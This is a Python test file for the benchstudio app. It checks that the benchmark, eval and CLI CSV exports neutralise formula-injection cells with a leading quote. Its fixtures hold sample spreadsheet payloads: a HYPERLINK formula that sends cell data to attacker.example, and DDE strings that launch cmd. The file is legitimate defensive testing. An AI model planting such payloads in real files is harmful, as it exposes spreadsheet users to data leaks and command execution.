"""Every CSV export neutralises cells a spreadsheet would run as a formula.

Issue 15 item 13: the benchmark export quoted cells starting with `=`, `+`, `-` or `@`, the
eval export did not. Both API exports and the CLI's summary CSV now go through one encoder
(`core.spreadsheet_csv`); each is driven here with user-controlled text that starts like a
formula and must come back with a leading `'`.
"""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from security_platform import Tenant, create_app, sign_up

from benchstudio.config import Settings
from benchstudio.core.spreadsheet_csv import FORMULA_STARTS
from benchstudio.speed.output import write_summary_csv

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_like(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _results_document() -> dict[str, Any]:
    return {
        "schema": "benchstudio.bench/1",
        "run_id": "csv-run",
        "config": {"targets": [{"name": FORMULA, "model": AT_FORMULA}]},
        "summary": {"duration_s": 1.0},
        "requests": [
            {
                "request_id": "+r1",
                "target": FORMULA,
                "model": AT_FORMULA,
                "ttft_ms": 10.0,
                "e2e_ms": 12.0,
                "itl_ms": [1.0],
                "output_tokens": 2,
                "error": {"category": "other", "message": "-2+3+cmd|' /C calc'!A0"},
            }
        ],
    }


def test_the_benchmark_csv_export_quotes_formula_cells(settings: Settings) -> None:
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        user = sign_up(client, "csv-bench@example.com")
        imported = client.post(
            "/api/benchmarks/import", json=_results_document(), headers=user.headers
        )
        assert imported.status_code == 201, imported.text
        run_id = imported.json()["run"]["id"]
        text = client.get(f"/api/benchmarks/{run_id}/export?format=csv", headers=user.headers).text
    rows = _csv_rows(text)
    assert rows and rows[0]["model"] == "'" + AT_FORMULA
    assert rows[0]["error_message"].startswith("'-2+3")
    assert _formula_like(rows) == []


def _wait(client: TestClient, user: Tenant, job_id: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        status = client.get(f"/api/jobs/{job_id}", headers=user.headers).json()["status"]
        if status in ("done", "failed", "cancelled", "interrupted"):
            return
        time.sleep(0.05)
    raise AssertionError("the eval job did not finish")


def test_the_eval_csv_export_quotes_formula_cells(settings: Settings) -> None:
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        user = sign_up(client, "csv-eval@example.com")
        headers = user.headers
        provider = client.post(
            "/api/providers",
            json={"name": FORMULA, "base_url": "http://127.0.0.1:1/v1"},
            headers=headers,
        ).json()["id"]
        model = client.post(
            "/api/models",
            json={"provider_id": provider, "model_id": AT_FORMULA, "display_name": FORMULA},
            headers=headers,
        )
        assert model.status_code == 201, model.text
        suite = client.post("/api/suites/sample", headers=headers).json()["id"]
        started = client.post(
            "/api/evals",
            json={
                "suite_id": suite,
                "targets": [{"provider_id": provider, "model_id": model.json()["id"]}],
                "timeout_s": 2,
            },
            headers=headers,
        )
        assert started.status_code == 202, started.text
        _wait(client, user, started.json()["job_id"])
        run_id = started.json()["run"]["id"]
        text = client.get(f"/api/evals/{run_id}/export?format=csv", headers=headers).text
    rows = _csv_rows(text)
    assert rows, text
    assert {row["target"] for row in rows} <= {"'" + FORMULA, "'" + AT_FORMULA}, rows[0]
    assert _formula_like(rows) == []


def test_the_cli_summary_csv_quotes_formula_cells(tmp_path: Path) -> None:
    summary = {"requests": 1, "errors": 0, "error_rate": 0.0, "request_throughput": 1.0}
    summary |= {"output_token_throughput": 2.0, "cost_usd": None}
    block = {
        "name": FORMULA,
        "target": FORMULA,
        "model": AT_FORMULA,
        "mode": "concurrency",
        "context_tokens": 0,
        "concurrency": 1,
        "summary": summary,
        "diagnostics": {"trustworthy": True},
        "skipped_reason": None,
    }
    path = tmp_path / "summary.csv"
    write_summary_csv({"steps": [block]}, path)
    rows = _csv_rows(path.read_text(encoding="utf-8"))
    assert rows[0]["model"] == "'" + AT_FORMULA
    assert _formula_like(rows) == []
